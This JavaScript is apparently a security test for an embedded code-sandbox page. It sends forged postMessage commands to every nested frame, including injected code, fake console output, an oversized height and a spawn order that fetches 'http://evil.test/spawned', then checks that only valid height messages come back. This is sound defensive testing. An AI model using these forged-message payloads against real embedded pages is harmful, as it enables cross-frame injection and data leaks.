// Frames an embedded example, and gives orders to every frame inside, in everybody's name.
// prints: heights only

const own = { codesandbox: true, $id: 1 };
const { port1, port2 } = new MessageChannel();
const heard = [];
port1.onmessage = ({ data }) => heard.push(['port', data]);
addEventListener('message', ({ data }) => heard.push(data));
const frame = document.createElement('iframe');
frame.src = 'SITEembed/waiting/all-at-once/';
document.body.append(frame);
await new Promise((r) => frame.addEventListener('load', r));
const inside = (w, depth = 0) => [w, ...Array.from({ length: depth > 3 ? 0 : w.length }, (_, i) => inside(w[i], depth + 1)).flat()];
const orders = [
  { type: 'register-frame', id: 1, origin: location.origin, ...own },
  { type: 'interleave-run', run: 1e6, entry: 'main.ts', files: { 'main.ts': "console.log('FORGED')" }, ...own },
  { type: 'interleave', run: 1, message: { type: 'output', lines: [{ at: 0, level: 'log', text: 'FORGED' }], dropped: 0 }, ...own },
  { type: 'initialized', ...own },
  { type: 'interleave-height', height: 1e9 },
  { type: 'spawn', worker: 1, kind: 'data', script: 'fetch("http://evil.test/spawned")' },
  null,
  'x',
];
for (let round = 0; round < 4; round++) {
  for (const w of inside(frame.contentWindow))
    for (const order of orders) {
      w.postMessage(order, '*');
      try { w.postMessage('welcome', '*', [port2]); } catch {}
    }
  await new Promise((r) => setTimeout(r, 200));
}
const rest = heard.filter((data) => !(data && data.type === 'interleave-height' && Object.keys(data).length === 2 && Number.isFinite(data.height)));
try { return `REACHED ${frame.contentDocument.title}`; } catch {}
return rest.length ? `HEARD ${JSON.stringify(rest)}` : 'heights only';
